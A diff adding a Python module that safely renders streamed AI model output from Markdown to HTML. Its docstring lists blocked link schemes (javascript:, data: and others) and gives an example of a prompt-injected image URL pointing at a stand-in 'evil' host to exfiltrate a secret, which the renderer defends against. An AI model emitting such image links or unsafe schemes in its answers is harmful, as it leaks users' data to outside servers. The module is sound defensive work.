@@ -1,0 +1,198 @@
+"""Markdown to safe HTML, once (`render`) or incrementally while an answer streams in.
+
+The dialect: CommonMark plus tables, strikethrough, task lists, footnotes (`[^x]`,
+`^[inline]`) and `$…$` / `$$…$$` math. Model output is untrusted, so:
+
+- raw HTML in the input is shown as text, never passed through (`html=False`);
+- link targets with `javascript:`, `vbscript:`, `file:` or `data:` schemes (in any case,
+  entity-encoded or with embedded whitespace/control characters) are dropped;
+- every link gets `rel="noopener noreferrer nofollow"` and `target="_blank"`;
+- images never load by themselves: a remote image would reach its server without a
+  click, so a prompt-injected `![](https://evil/?q=secret)` could exfiltrate data. Only
+  inline `data:image/(png|jpeg|gif|webp)` images render as `<img>`; every other image
+  becomes a click-to-open link `<a class="cnb-img" href=…>🖼 alt</a>` (a `<span>` when it
+  sits inside another link or its URL was refused);
+- math is not typeset here and needs no network: `<span class="cnb-math">` and
+  `<div class="cnb-math-block">` hold the escaped TeX source, readable as is in static
+  output; a front end may typeset their text with a bundled, non-trusting renderer.
+
+Code fences become `<div class="cnb-code highlight" data-lang="py"><pre><code
+class="language-py">…</code></pre></div>` with pygments class-based spans; the copyable
+text is the `<code>` element's textContent.
+
+Streaming (`StreamingMarkdown`) commits top-level blocks that can no longer change and
+re-renders only the open tail, so an update costs about the same at 200 KB as at 2 KB.
+After `finish()`, `.html == render(full_text)` byte for byte. The rules that make this
+true (design.md §5):
+
+1. Block boundaries are decided on complete lines only.
+2. A boundary before a block is safe when the line before it is blank or the previous
+   block ends exactly there (a reference definition's title may still continue).
+3. No block starting with `$$` is committed while its closing `$$` could still arrive
+   (dollarmath stops looking at a blank line, so a blank line after it settles it).
+4. The parser env (references, footnote ids) is carried into every later parse; when a
+   committed chunk defines a reference label that earlier committed text mentions, all
+   committed HTML is re-rendered and sent as `Patch.replace` (rare, explicit).
+5. Footnote refs always match (`always_match_refs`), so a definition arriving later never
+   changes committed text; the footnote footer lives in the tail and never renumbers.
+"""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+from typing import Any
+
+from markdown_it.common.utils import MD_TRIM_RE
+
+from ._md_engine import FOOTNOTE_DEFS, MD, new_env, render_footnotes, render_tokens
+from ._md_tail import TAIL
+
+__all__ = ["Patch", "StreamingMarkdown", "render"]
+
+_MATH_BLOCKS = ("math_block", "math_block_label")
+_NEWLINES = re.compile(r"\r\n?")
+
+
+def render(text: str) -> str:
+    """The full, final HTML of a Markdown document."""
+    env = new_env()
+    return render_tokens(MD.parse(text, env), env) + render_footnotes(env)
+
+
+@dataclass(frozen=True)
+class Patch:
+    """What changed in `StreamingMarkdown.html`, to apply in this order:
+
+    `replace` (when not None) replaces all committed HTML, then `commit` is appended to
+    the committed HTML for good, then `tail` replaces the previous tail.
+    """
+
+    commit: str = ""
+    tail: str = ""
+    replace: str | None = None
+
+
+class StreamingMarkdown:
+    """Incremental `render`: `feed()` deltas, then `finish()`.
+
+    Each update re-parses only the uncommitted text (normally the last block or two),
+    with the open tail stabilized for display (see `_md_tail`).
+    """
+
+    def __init__(self) -> None:
+        self._env: dict[str, Any] = new_env()
+        self._chunks: list[str] = []  # committed source, in block-aligned pieces
+        self._folded: list[str] = []  # the same, case- and whitespace-folded
+        self._committed_html: list[str] = []
+        self._open = ""  # the uncommitted source; always starts at a line start
+        self._held_cr = False  # a trailing "\r" may be the first half of "\r\n"
+        self._tail = ""
+        self._finished = False
+
+    @property
+    def html(self) -> str:
+        """Committed HTML plus the current tail."""
+        return "".join(self._committed_html) + self._tail
+
+    def feed(self, delta: str) -> Patch:
+        if self._finished:
+            raise RuntimeError("StreamingMarkdown.feed() after finish()")
+        text = self._normalize(delta)
+        if not text:
+            return Patch(tail=self._tail)
+        self._open += text
+        commit, replace = self._commit_settled() if "\n" in text else ("", None)
+        self._tail = self._render_tail()
+        return Patch(commit, self._tail, replace)
+
+    def finish(self) -> Patch:
+        """Commit everything; afterwards `.html == render(all fed text)`."""
+        if self._finished:
+            return Patch(tail=self._tail)
+        self._finished = True
+        if self._held_cr:
+            self._open += "\n"
+        commit, replace = ("", None)
+        if self._open:
+            commit, replace = self._commit(self._open)
+            self._open = ""
+        self._tail = render_footnotes(self._env)
+        return Patch(commit, self._tail, replace)
+
+    # ------------------------------------------------------------ internals
+
+    def _normalize(self, delta: str) -> str:
+        """markdown-it's own newline normalization, applied across delta boundaries."""
+        if self._held_cr:
+            delta = "\r" + delta
+        self._held_cr = delta.endswith("\r")
+        if self._held_cr:
+            delta = delta[:-1]
+        return _NEWLINES.sub("\n", delta).replace("\0", "\ufffd")
+
+    def _commit_settled(self) -> tuple[str, str | None]:
+        cut = settled_length(self._open[: self._open.rfind("\n") + 1])
+        if not cut:
+            return "", None
+        chunk, self._open = self._open[:cut], self._open[cut:]
+        return self._commit(chunk)
+
+    def _commit(self, chunk: str) -> tuple[str, str | None]:
+        """Parse `chunk` for good into the carried env; returns (commit, replace)."""
+        known = set(self._env["references"])
+        html = render_tokens(MD.parse(chunk, self._env), self._env)
+        new_labels = set(self._env["references"]) - known
+        mentioned = any(label in folded for label in new_labels for folded in self._folded)
+        self._chunks.append(chunk)
+        self._folded.append(_fold(chunk))
+        if not mentioned:
+            self._committed_html.append(html)
+            return html, None
+        source = "".join(self._chunks)
+        self._env = new_env()
+        html = render_tokens(MD.parse(source, self._env), self._env)
+        self._chunks, self._folded, self._committed_html = [source], ["".join(self._folded)], [html]
+        return "", html
+
+    def _render_tail(self) -> str:
+        env = _fork(self._env)
+        html = render_tokens(MD.parse(self._open, env), env) if self._open else ""
+        return html + render_footnotes(env)
+
+
+def settled_length(src: str) -> int:
+    """How many leading characters of `src` (complete lines only) form blocks that no
+    later text can change; always 0 or the offset of a line start."""
+    tokens = MD.block.parse(src, MD, {}, []) or []
+    blocks = [(t.map[0], t.map[1], t.type) for t in tokens if t.level == 0 and t.nesting >= 0 and t.map]
+    lines = src.split("\n")
+    blank = [not line.strip(" \t") for line in lines]
+    last_blank = max((n for n, b in enumerate(blank[:-1]) if b), default=-1)
+    limit = len(blocks) - 1  # the last block may still grow
+    for n, (start, _end, kind) in enumerate(blocks[:limit]):
+        if kind not in _MATH_BLOCKS and lines[start].lstrip(" \t").startswith("$$") and last_blank <= start:
+            limit = n  # its closing `$$` may still come
+            break
+    for j in range(limit, 0, -1):
+        start = blocks[j][0]
+        if blank[start - 1] or blocks[j - 1][1] == start:
+            return sum(len(line) + 1 for line in lines[:start])
+    return 0
+
+
+def _fold(text: str) -> str:
+    """`text` folded like markdown-it folds reference labels, to search labels in it."""
+    return MD_TRIM_RE.sub(" ", text).lower().upper()
+
+
+def _fork(env: dict[str, Any]) -> dict[str, Any]:
+    """A copy of the committed env that a tail parse may scribble on."""
+    forked = {"references": dict(env["references"]), FOOTNOTE_DEFS: dict(env[FOOTNOTE_DEFS]), TAIL: True}
+    notes = env.get("footnotes")
+    if notes:
+        forked["footnotes"] = {
+            "refs": dict(notes["refs"]),
+            "list": {n: dict(note) for n, note in notes["list"].items()},
+        }
+    return forked
